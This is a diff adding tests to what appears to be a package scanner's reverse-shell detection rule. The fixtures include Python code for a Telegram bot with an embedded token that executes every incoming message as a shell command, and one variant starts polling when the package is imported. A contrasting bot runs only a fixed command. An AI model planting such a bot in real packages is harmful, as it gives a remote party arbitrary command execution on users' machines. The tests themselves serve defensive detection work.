@@ -15,3 +15,17 @@ describe('reverse-shell', () => {
     expect(hits('reverse-shell', { 'pkg/net.py': src })).toEqual([]);
   });
 });
+
+describe('reverse-shell: a chat bot as the remote console', () => {
+  const BOT = (tail: string) => `import telebot, subprocess\nbot = telebot.TeleBot("8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac")\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    out = subprocess.check_output(message.text, shell=True, text=True)\n    bot.reply_to(message, out[:4000])\n${tail}`;
+  it('blocks a bot with its token in the code that runs what it is sent and starts polling on import (critical)', () => {
+    expect(maxSev(hits('reverse-shell', { 'pkg/__init__.py': BOT('bot.infinity_polling()\n') }))).toBe('critical');
+  });
+  it('holds the same bot in a module that only defines it (high)', () => {
+    expect(maxSev(hits('reverse-shell', { 'pkg/bot.py': BOT('') }))).toBe('high');
+  });
+  it('does not flag a bot that runs fixed commands', () => {
+    const src = `import telebot, subprocess, os\nbot = telebot.TeleBot(os.environ["TOKEN"])\n@bot.message_handler(commands=["uptime"])\ndef up(message):\n    bot.reply_to(message, subprocess.check_output(["uptime"], text=True))\n`;
+    expect(hits('reverse-shell', { 'pkg/bot.py': src })).toEqual([]);
+  });
+});
